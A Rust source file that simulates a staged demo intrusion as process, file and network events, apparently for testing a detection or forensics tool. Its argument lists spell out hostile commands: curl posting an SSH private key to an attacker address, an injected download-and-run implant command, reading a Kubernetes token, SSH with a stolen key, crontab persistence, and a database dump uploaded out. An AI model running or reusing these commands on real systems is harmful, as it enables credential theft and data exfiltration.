//! The demo intrusion, written with the same primitives as the background. Times and ids come
//! from [`super::truth`]; docs/demo.md tells the story.

use crate::schema::{ContainerRecord, EventKind};
use crate::store::StoreError;

use super::sim::{DB, LAPTOP, MS, NODE1, NODE2, ROOT, SEC, Sim, User};
use super::truth::*;

const ALICE_LAPTOP: User = User {
    uid: 1000,
    name: "alice",
};
const ALICE_DB: User = User {
    uid: 1001,
    name: "alice",
};
const APP: User = User {
    uid: 10001,
    name: "app",
};
const TOKEN: &str = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjZ0dTRmIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6c2hvcDpzaG9wLXdlYiJ9.c2ln";

/// Day L: `npm install` on the laptop runs a malicious postinstall that posts alice's SSH key
/// to the attacker.
pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
    let h = LAPTOP;
    let shell = sim.daemon(h, "gnome-shell");
    let t = day + at(10, 14, 40, 0);
    let term = sim.spawn(
        h,
        &shell,
        t,
        None,
        "/usr/libexec/gnome-terminal-server",
        &["/usr/libexec/gnome-terminal-server"],
        ALICE_LAPTOP,
        "/home/alice",
    )?;
    let bash = sim.spawn(
        h,
        &term,
        t + 300 * MS,
        None,
        "/usr/bin/bash",
        &["bash"],
        ALICE_LAPTOP,
        "/home/alice/src/shop-web",
    )?;
    let cwd = "/home/alice/src/shop-web";
    let npm = sim.spawn(
        h,
        &bash,
        day + at(10, 15, 1, 0),
        None,
        "/usr/bin/node",
        &["npm", "install"],
        ALICE_LAPTOP,
        cwd,
    )?;
    let pkg = "/home/alice/src/shop-web/node_modules/colorz-utils";
    sim.write_file(
        h,
        &npm,
        day + at(10, 15, 2, 0),
        None,
        &format!("{pkg}/package.json"),
        None,
    )?;
    sim.write_file(
        h,
        &npm,
        day + at(10, 15, 2, 100),
        None,
        &format!("{pkg}/scripts/postinstall.js"),
        None,
    )?;
    let sh = sim.spawn(
        h,
        &npm,
        day + at(10, 15, 2, 900),
        None,
        "/bin/sh",
        &["sh", "-c", "node scripts/postinstall.js"],
        ALICE_LAPTOP,
        pkg,
    )?;
    let node = sim.spawn(
        h,
        &sh,
        day + at(10, 15, 3, 0) - 500_000,
        None,
        "/usr/bin/node",
        &["node", "scripts/postinstall.js"],
        ALICE_LAPTOP,
        pkg,
    )?;
    let sh2 = sim.spawn(
        h,
        &node,
        day + at(10, 15, 9, 0) - 600_000,
        None,
        "/bin/sh",
        &[
            "/bin/sh",
            "-c",
            "curl -s -X POST --data-binary @/home/alice/.ssh/id_ed25519 https://203.0.113.66/k",
        ],
        ALICE_LAPTOP,
        pkg,
    )?;
    let curl = sim.spawn(
        h,
        &sh2,
        day + at(10, 15, 9, 0) - 300_000,
        None,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "-X",
            "POST",
            "--data-binary",
            "@/home/alice/.ssh/id_ed25519",
            "https://203.0.113.66/k",
        ],
        ALICE_LAPTOP,
        pkg,
    )?;
    let end = sim.connect(
        h,
        &curl,
        day + at(10, 15, 9, 40),
        None,
        LAPTOP_IP,
        50_514,
        ATTACKER_IP,
        443,
        380 * MS,
        (411, 120),
    )?;
    sim.exit(h, &curl, end + MS, None, 0)?;
    sim.exit(h, &sh2, end + 2 * MS, None, 0)?;
    sim.exit(h, &node, end + 40 * MS, None, 0)?;
    sim.exit(h, &sh, end + 41 * MS, None, 0)?;
    sim.write_file(
        h,
        &npm,
        end + 2 * SEC,
        None,
        "/home/alice/src/shop-web/package-lock.json",
        None,
    )?;
    sim.exit(h, &npm, end + 3 * SEC, None, 0)?;
    Ok(())
}

fn pod_record(name: &str, pod: &str, image: &str, app: &str) -> ContainerRecord {
    ContainerRecord {
        name: Some(name.into()),
        image: Some(image.into()),
        image_id: Some(format!(
            "sha256:{}",
            &format!("{:x}", md5ish(image)).repeat(4)[..64]
        )),
        runtime: Some("containerd".into()),
        pod: Some(pod.into()),
        namespace: Some("shop".into()),
        labels: vec![
            format!("app={app}"),
            "team=shop".into(),
            format!("io.kubernetes.pod.name={pod}"),
        ],
        ..Default::default()
    }
}

/// A tiny stable hash for image ids (not cryptographic; ids only need to be stable).
pub(crate) fn md5ish(s: &str) -> u128 {
    let mut h: u128 = 0x6c62272e07bb014262b821756295c58d;
    for b in s.bytes() {
        h ^= b as u128;
        h = h.wrapping_mul(0x0000000001000000000000000000013B);
    }
    h
}

/// Day D: exploitation of the web container, reverse shell, token theft, `kubectl exec` into
/// the payments container, SSH with alice's key to db-01, dump and exfiltration, clean-up, and
/// both containers deleted.
pub(crate) fn attack(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
    // The two pods of the story, started by the morning rollout.
    let web = sim.start_container(
        NODE1,
        day + WEB_STARTED,
        Some(WEB_CONTAINER_ID),
        pod_record("web", WEB_POD, WEB_IMAGE, "shop-web"),
        WEB_IP,
        "/usr/local/bin/python3.12",
        &[
            "/usr/local/bin/python3.12",
            "/usr/local/bin/gunicorn",
            "-w",
            "2",
            "-b",
            "0.0.0.0:8080",
            "shop.wsgi",
        ],
        APP,
        "/app",
    )?;
    let worker = sim.fork(
        NODE1,
        &web.entry,
        day + WEB_STARTED + 800 * MS,
        Some(WEB_CONTAINER_ID),
    )?;
    sim.net(
        NODE1,
        &web.entry,
        day + WEB_STARTED + 790 * MS,
        Some(WEB_CONTAINER_ID),
        EventKind::NetListen,
        None,
        (super::sim::ip("0.0.0.0"), 8080),
        None,
    )?;
    let pay = sim.start_container(
        NODE2,
        day + PAY_STARTED,
        Some(PAY_CONTAINER_ID),
        pod_record("api", PAY_POD, PAY_IMAGE, "payments-api"),
        PAY_IP,
        "/app/payments-api",
        &["/app/payments-api", "--listen", ":8443"],
        APP,
        "/app",
    )?;
    sim.net(
        NODE2,
        &pay.entry,
        day + PAY_STARTED + 300 * MS,
        Some(PAY_CONTAINER_ID),
        EventKind::NetListen,
        None,
        (super::sim::ip("0.0.0.0"), 8443),
        None,
    )?;
    // Kubelet probes until the end; they make the containers look like the others.
    for (c, node, port) in [(&web, NODE1, 8080u16), (&pay, NODE2, 8443)] {
        let kubelet = sim.daemon(node, "kubelet");
        let node_ip = if node == NODE1 {
            "10.10.1.11"
        } else {
            "10.10.1.12"
        };
        let end = if node == NODE1 {
            WEB_EXITED
        } else {
            PAY_EXITED
        };
        let mut t =
            day + if node == NODE1 {
                WEB_STARTED
            } else {
                PAY_STARTED
            } + 10 * SEC;
        let target = if node == NODE1 { &worker } else { &c.entry };
        while t < day + end {
            let sport = sim.ephemeral_port();
            sim.connect(
                node,
                &kubelet,
                t,
                None,
                node_ip,
                sport,
                &c.ip,
                port,
                2 * MS,
                (112, 160),
            )?;
            sim.accept(
                node,
                target,
                t + 300_000,
                Some(&c.id),
                node_ip,
                sport,
                &c.ip,
                port,
                MS,
                (160, 112),
            )?;
            t += 60 * SEC;
        }
    }

    let w = Some(WEB_CONTAINER_ID);
    let (ing, nginx) = sim.ingress.clone().expect("ingress started at boot");
    // 1. The exploit request through the ingress.
    sim.accept(
        NODE1,
        &nginx,
        day + at(14, 2, 11, 250),
        Some(&ing.id),
        ATTACKER_IP,
        40_112,
        INGRESS_IP,
        443,
        900 * MS,
        (2_310, 512),
    )?;
    sim.connect(
        NODE1,
        &nginx,
        day + at(14, 2, 11, 262),
        Some(&ing.id),
        INGRESS_IP,
        38_514,
        WEB_IP,
        8080,
        880 * MS,
        (2_310, 512),
    )?;
    sim.accept(
        NODE1,
        &worker,
        day + at(14, 2, 11, 263),
        w,
        INGRESS_IP,
        38_514,
        WEB_IP,
        8080,
        878 * MS,
        (512, 2_310),
    )?;
    // 2. Command injection: download, chmod, run the implant.
    let cmd = "curl -s http://203.0.113.66:8000/kw -o /tmp/.kworker; chmod +x /tmp/.kworker; /tmp/.kworker 203.0.113.66 4444";
    let sh = sim.spawn(
        NODE1,
        &worker,
        day + at(14, 2, 11, 301) - 400_000,
        w,
        "/bin/sh",
        &["/bin/sh", "-c", cmd],
        APP,
        "/app",
    )?;
    let curl = sim.spawn(
        NODE1,
        &sh,
        day + at(14, 2, 11, 310) - 400_000,
        w,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "http://203.0.113.66:8000/kw",
            "-o",
            "/tmp/.kworker",
        ],
        APP,
        "/app",
    )?;
    sim.net(
        NODE1,
        &curl,
        day + at(14, 2, 11, 320),
        w,
        EventKind::NetConnect,
        Some((super::sim::ip(WEB_IP), 41_870)),
        (super::sim::ip(ATTACKER_IP), 8000),
        None,
    )?;
    sim.file(
        NODE1,
        &curl,
        day + at(14, 2, 11, 650),
        w,
        EventKind::FileCreate,
        DROPPER_PATH,
        None,
        Some(0o644),
        None,
    )?;
    sim.file(
        NODE1,
        &curl,
        day + at(14, 2, 12, 100),
        w,
        EventKind::FileWriteClose,
        DROPPER_PATH,
        None,
        None,
        Some(DROPPER_SHA256),
    )?;
    sim.net(
        NODE1,
        &curl,
        day + at(14, 2, 12, 110),
        w,
        EventKind::NetClose,
        Some((super::sim::ip(WEB_IP), 41_870)),
        (super::sim::ip(ATTACKER_IP), 8000),
        Some((98, 2_104_552)),
    )?;
    sim.exit(NODE1, &curl, day + at(14, 2, 12, 120), w, 0)?;
    let chmod = sim.spawn(
        NODE1,
        &sh,
        day + at(14, 2, 12, 130),
        w,
        "/bin/chmod",
        &["chmod", "+x", DROPPER_PATH],
        APP,
        "/app",
    )?;
    sim.file(
        NODE1,
        &chmod,
        day + at(14, 2, 12, 140),
        w,
        EventKind::FileChmod,
        DROPPER_PATH,
        None,
        Some(0o755),
        None,
    )?;
    sim.exit(NODE1, &chmod, day + at(14, 2, 12, 145), w, 0)?;
    let child = sim.fork(NODE1, &sh, day + at(14, 2, 12, 160), w)?;
    let implant = sim.exec(
        NODE1,
        &child,
        day + at(14, 2, 12, 161),
        w,
        DROPPER_PATH,
        &[DROPPER_PATH, ATTACKER_IP, "4444"],
        APP,
        "/app",
        Some(DROPPER_SHA256),
    )?;
    sim.exit(NODE1, &sh, day + at(14, 2, 12, 170), w, 0)?;
    sim.net(
        NODE1,
        &implant,
        day + at(14, 2, 12, 200),
        w,
        EventKind::NetConnect,
        Some((super::sim::ip(WEB_IP), 52_344)),
        (super::sim::ip(ATTACKER_IP), 4444),
        None,
    )?;
    let shell = sim.spawn(
        NODE1,
        &implant,
        day + at(14, 2, 12, 240) - 500_000,
        w,
        "/bin/sh",
        &["/bin/sh", "-i"],
        APP,
        "/app",
    )?;
    // 3. Interactive recon and credential theft from the reverse shell.
    let token_path = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let simple: [(i64, &str, Vec<&str>); 3] = [
        (at(14, 2, 40, 0), "/usr/bin/id", vec!["id"]),
        (at(14, 3, 5, 0), "/bin/cat", vec!["cat", token_path]),
        (at(14, 3, 30, 0), "/usr/bin/env", vec!["env"]),
    ];
    for (off, exe, argv) in simple {
        let p = sim.spawn(
            NODE1,
            &shell,
            day + off - 500_000,
            w,
            exe,
            &argv,
            APP,
            "/app",
        )?;
        sim.exit(NODE1, &p, day + off + 8 * MS, w, 0)?;
    }
    let auth = format!("Authorization: Bearer {TOKEN}");
    let api = "10.96.0.1";
    let c1 = sim.spawn(
        NODE1,
        &shell,
        day + at(14, 4, 10, 0) - 2 * MS,
        w,
        "/usr/bin/curl",
        &[
            "curl",
            "-sk",
            "-H",
            &auth,
            "https://10.96.0.1/api/v1/namespaces/shop/secrets",
        ],
        APP,
        "/app",
    )?;
    let end = sim.connect(
        NODE1,
        &c1,
        day + at(14, 4, 10, 0),
        w,
        WEB_IP,
        49_210,
        api,
        443,
        240 * MS,
        (1_420, 18_733),
    )?;
    sim.exit(NODE1, &c1, end + MS, w, 0)?;
    // 4. kubectl exec into the payments pod through the API server.
    let exec_url = format!(
        "https://10.96.0.1/api/v1/namespaces/shop/pods/{PAY_POD}/exec?command=sh&stdin=true&stdout=true&tty=false"
    );
    let c2 = sim.spawn(
        NODE1,
        &shell,
        day + at(14, 6, 55, 0) - 2 * MS,
        w,
        "/usr/bin/curl",
        &[
            "curl",
            "-sk",
            "-X",
            "POST",
            "-H",
            &auth,
            "-H",
            "Upgrade: SPDY/3.1",
            &exec_url,
        ],
        APP,
        "/app",
    )?;
    let c2_end = sim.connect(
        NODE1,
        &c2,
        day + at(14, 6, 55, 0),
        w,
        WEB_IP,
        49_288,
        api,
        443,
        at(0, 8, 35, 0),
        (6_120, 48_200),
    )?;
    sim.exit(NODE1, &c2, c2_end + MS, w, 0)?;

    let p = Some(PAY_CONTAINER_ID);
    let kubelet2 = sim.daemon(NODE2, "kubelet");
    sim.accept(
        NODE2,
        &kubelet2,
        day + at(14, 6, 55, 600),
        None,
        "10.10.1.10",
        51_820,
        "10.10.1.12",
        10_250,
        at(0, 8, 34, 0),
        (48_000, 6_000),
    )?;
    let psh = sim.runtime_exec(
        &pay,
        day + at(14, 6, 56, 100) - 6 * MS,
        "/bin/sh",
        &["sh"],
        APP,
        "/app",
    )?;
    for (off, exe, argv) in [
        (
            at(14, 7, 20, 0),
            "/bin/cat",
            vec!["cat", "/app/config/database.yml"],
        ),
        (at(14, 7, 45, 0), "/usr/bin/env", vec!["env"]),
    ] {
        let q = sim.spawn(NODE2, &psh, day + off - 500_000, p, exe, &argv, APP, "/app")?;
        sim.exit(NODE2, &q, day + off + 6 * MS, p, 0)?;
    }
    // The key comes over the shell as base64.
    let sub = sim.fork(NODE2, &psh, day + at(14, 8, 29, 900), p)?;
    let b64 = sim.exec(
        NODE2,
        &sub,
        day + at(14, 8, 29, 950),
        p,
        "/usr/bin/base64",
        &["base64", "-d"],
        APP,
        "/app",
        None,
    )?;
    sim.write_file(NODE2, &b64, day + at(14, 8, 30, 0), p, "/tmp/.k", None)?;
    sim.exit(NODE2, &b64, day + at(14, 8, 30, 20), p, 0)?;
    let ch = sim.spawn(
        NODE2,
        &psh,
        day + at(14, 8, 31, 0) - 700_000,
        p,
        "/bin/chmod",
        &["chmod", "600", "/tmp/.k"],
        APP,
        "/app",
    )?;
    sim.file(
        NODE2,
        &ch,
        day + at(14, 8, 31, 0),
        p,
        EventKind::FileChmod,
        "/tmp/.k",
        None,
        Some(0o600),
        None,
    )?;
    sim.exit(NODE2, &ch, day + at(14, 8, 31, 5), p, 0)?;
    let ssh = sim.spawn(
        NODE2,
        &psh,
        day + at(14, 9, 2, 0) - 900_000,
        p,
        "/usr/bin/ssh",
        &[
            "ssh",
            "-i",
            "/tmp/.k",
            "-o",
            "StrictHostKeyChecking=no",
            "alice@10.10.2.20",
            "bash -s",
        ],
        APP,
        "/app",
    )?;
    let ssh_end = sim.connect(
        NODE2,
        &ssh,
        day + at(14, 9, 2, 10),
        p,
        PAY_IP,
        45_022,
        DB_IP,
        22,
        at(0, 18, 8, 0),
        (9_800, 3_100),
    )?;
    sim.loss(
        NODE2,
        day + LOSS_AT + 500 * MS,
        day + LOSS_AT,
        day + LOSS_AT + 500 * MS,
        3,
        "ringbuf_full",
    )?;

    // 5. db-01: sshd accepts alice's key.
    let h = DB;
    let sshd = sim.daemon(h, "sshd");
    sim.accept(
        h,
        &sshd,
        day + at(14, 9, 2, 140),
        None,
        PAY_IP,
        45_022,
        DB_IP,
        22,
        at(0, 18, 8, 0) - 130 * MS,
        (3_100, 9_800),
    )?;
    let priv_ = sim.fork(h, &sshd, day + at(14, 9, 2, 150), None)?;
    let priv_ = sim.exec(
        h,
        &priv_,
        day + at(14, 9, 2, 152),
        None,
        "/usr/sbin/sshd",
        &["sshd: alice [priv]"],
        ROOT,
        "/",
        None,
    )?;
    let mut notty = (*sim.fork(h, &priv_, day + at(14, 9, 2, 600), None)?).clone();
    notty.uid = Some(ALICE_DB.uid);
    notty.euid = Some(ALICE_DB.uid);
    notty.auid = Some(ALICE_DB.uid);
    notty.user_name = Some("alice".into());
    notty.argv = vec!["sshd: alice@notty".into()];
    let notty = std::sync::Arc::new(notty);
    let bash = sim.spawn(
        h,
        &notty,
        day + at(14, 9, 2, 650) - 400_000,
        None,
        "/bin/bash",
        &["bash", "-s"],
        ALICE_DB,
        "/home/alice",
    )?;
    let home = "/home/alice";
    let c = sim.spawn(
        h,
        &bash,
        day + at(14, 9, 30, 0) - MS,
        None,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "http://203.0.113.66:8000/kw",
            "-o",
            DROPPER_PATH,
        ],
        ALICE_DB,
        home,
    )?;
    sim.net(
        h,
        &c,
        day + at(14, 9, 30, 0),
        None,
        EventKind::NetConnect,
        Some((super::sim::ip(DB_IP), 39_610)),
        (super::sim::ip(ATTACKER_IP), 8000),
        None,
    )?;
    sim.file(
        h,
        &c,
        day + at(14, 9, 30, 400),
        None,
        EventKind::FileCreate,
        DROPPER_PATH,
        None,
        Some(0o644),
        None,
    )?;
    sim.file(
        h,
        &c,
        day + at(14, 9, 30, 900),
        None,
        EventKind::FileWriteClose,
        DROPPER_PATH,
        None,
        None,
        Some(DROPPER_SHA256),
    )?;
    sim.net(
        h,
        &c,
        day + at(14, 9, 30, 910),
        None,
        EventKind::NetClose,
        Some((super::sim::ip(DB_IP), 39_610)),
        (super::sim::ip(ATTACKER_IP), 8000),
        Some((98, 2_104_552)),
    )?;
    sim.exit(h, &c, day + at(14, 9, 30, 920), None, 0)?;
    let ch = sim.spawn(
        h,
        &bash,
        day + at(14, 9, 35, 0),
        None,
        "/bin/chmod",
        &["chmod", "+x", DROPPER_PATH],
        ALICE_DB,
        home,
    )?;
    sim.file(
        h,
        &ch,
        day + at(14, 9, 35, 5),
        None,
        EventKind::FileChmod,
        DROPPER_PATH,
        None,
        Some(0o755),
        None,
    )?;
    sim.exit(h, &ch, day + at(14, 9, 35, 8), None, 0)?;
    // Persistence: a crontab line that restarts the implant.
    sim.write_file(h, &bash, day + at(14, 9, 39, 0), None, "/tmp/.c", None)?;
    let ct = sim.spawn(
        h,
        &bash,
        day + at(14, 9, 40, 0),
        None,
        "/usr/bin/crontab",
        &["crontab", "/tmp/.c"],
        ALICE_DB,
        home,
    )?;
    let tmp = "/var/spool/cron/crontabs/tmp.Xk3f9a";
    sim.write_file(h, &ct, day + at(14, 9, 40, 100), None, tmp, None)?;
    sim.file(
        h,
        &ct,
        day + at(14, 9, 40, 200),
        None,
        EventKind::FileRename,
        tmp,
        Some("/var/spool/cron/crontabs/alice"),
        None,
        None,
    )?;
    sim.exit(h, &ct, day + at(14, 9, 40, 210), None, 0)?;
    // Dump the database and send it out.
    let dump = sim.spawn(
        h,
        &bash,
        day + at(14, 11, 2, 0) - 800_000,
        None,
        "/usr/lib/postgresql/15/bin/pg_dump",
        &[
            "pg_dump",
            "-h",
            "127.0.0.1",
            "-U",
            "shop",
            "shop",
            "-f",
            "/tmp/.d.sql",
        ],
        ALICE_DB,
        home,
    )?;
    let pg = sim.daemon(h, "postgres");
    sim.connect(
        h,
        &dump,
        day + at(14, 11, 2, 100),
        None,
        "127.0.0.1",
        51_002,
        "127.0.0.1",
        5432,
        at(0, 2, 38, 0),
        (2_200, 311_000_000),
    )?;
    sim.accept(
        h,
        &pg,
        day + at(14, 11, 2, 101),
        None,
        "127.0.0.1",
        51_002,
        "127.0.0.1",
        5432,
        at(0, 2, 38, 0),
        (311_000_000, 2_200),
    )?;
    let backend = sim.fork(h, &pg, day + at(14, 11, 2, 102), None)?;
    sim.exit(h, &backend, day + at(14, 13, 40, 200), None, 0)?;
    sim.file(
        h,
        &dump,
        day + at(14, 11, 2, 300),
        None,
        EventKind::FileCreate,
        "/tmp/.d.sql",
        None,
        Some(0o644),
        None,
    )?;
    sim.file(
        h,
        &dump,
        day + at(14, 13, 40, 0),
        None,
        EventKind::FileWriteClose,
        "/tmp/.d.sql",
        None,
        None,
        None,
    )?;
    sim.exit(h, &dump, day + at(14, 13, 40, 100), None, 0)?;
    let tar = sim.spawn(
        h,
        &bash,
        day + at(14, 13, 45, 0) - 2 * MS,
        None,
        "/usr/bin/tar",
        &["tar", "czf", "/tmp/.d.tgz", "/tmp/.d.sql"],
        ALICE_DB,
        home,
    )?;
    sim.file(
        h,
        &tar,
        day + at(14, 13, 45, 0),
        None,
        EventKind::FileCreate,
        "/tmp/.d.tgz",
        None,
        Some(0o644),
        None,
    )?;
    sim.file(
        h,
        &tar,
        day + at(14, 14, 12, 0),
        None,
        EventKind::FileWriteClose,
        "/tmp/.d.tgz",
        None,
        None,
        None,
    )?;
    sim.exit(h, &tar, day + at(14, 14, 12, 10), None, 0)?;
    let up = sim.spawn(
        h,
        &bash,
        day + at(14, 14, 20, 0),
        None,
        "/usr/bin/curl",
        &["curl", "-s", "-T", "/tmp/.d.tgz", "https://203.0.113.66/u"],
        ALICE_DB,
        home,
    )?;
    let up_end = sim.connect(
        h,
        &up,
        day + at(14, 14, 20, 10),
        None,
        DB_IP,
        40_188,
        ATTACKER_IP,
        443,
        at(0, 1, 45, 0),
        (48_211_337, 512),
    )?;
    sim.exit(h, &up, up_end + MS, None, 0)?;
    let rm = sim.spawn(
        h,
        &bash,
        day + at(14, 16, 10, 0),
        None,
        "/bin/rm",
        &["rm", "-f", "/tmp/.d.sql", "/tmp/.d.tgz", "/tmp/.c"],
        ALICE_DB,
        home,
    )?;
    for (i, f) in ["/tmp/.d.sql", "/tmp/.d.tgz", "/tmp/.c"].iter().enumerate() {
        sim.file(
            h,
            &rm,
            day + at(14, 16, 10, 3 + i as i64),
            None,
            EventKind::FileUnlink,
            f,
            None,
            None,
            None,
        )?;
    }
    sim.exit(h, &rm, day + at(14, 16, 10, 9), None, 0)?;
    sim.exit(h, &bash, day + at(14, 16, 12, 0), None, 0)?;
    sim.exit(h, &notty, day + at(14, 16, 12, 5), None, 0)?;
    sim.exit(h, &priv_, day + at(14, 16, 12, 9), None, 0)?;
    sim.exit(NODE2, &ssh, ssh_end + MS, p, 255)?;

    // 6. Clean-up in the web container, then both pods deleted.
    let rm = sim.spawn(
        NODE1,
        &shell,
        day + at(14, 31, 5, 0),
        w,
        "/bin/rm",
        &["rm", "-f", DROPPER_PATH],
        APP,
        "/app",
    )?;
    sim.file(
        NODE1,
        &rm,
        day + at(14, 31, 5, 5),
        w,
        EventKind::FileUnlink,
        DROPPER_PATH,
        None,
        None,
        None,
    )?;
    sim.exit(NODE1, &rm, day + at(14, 31, 5, 9), w, 0)?;
    sim.net(
        NODE1,
        &implant,
        day + at(14, 31, 40, 0),
        w,
        EventKind::NetClose,
        Some((super::sim::ip(WEB_IP), 52_344)),
        (super::sim::ip(ATTACKER_IP), 4444),
        Some((38_120, 4_410)),
    )?;
    sim.exit(NODE1, &shell, day + at(14, 31, 40, 5), w, 0)?;
    sim.exit(NODE1, &implant, day + at(14, 31, 40, 9), w, 0)?;
    sim.exit(NODE2, &psh, day + at(14, 15, 30, 0), p, 0)?;
    sim.exit(NODE1, &worker, day + WEB_EXITED - MS, w, 137)?;
    sim.stop_container(&web, day + WEB_EXITED, 137, true)?;
    sim.stop_container(&pay, day + PAY_EXITED, 137, true)?;
    Ok(())
}
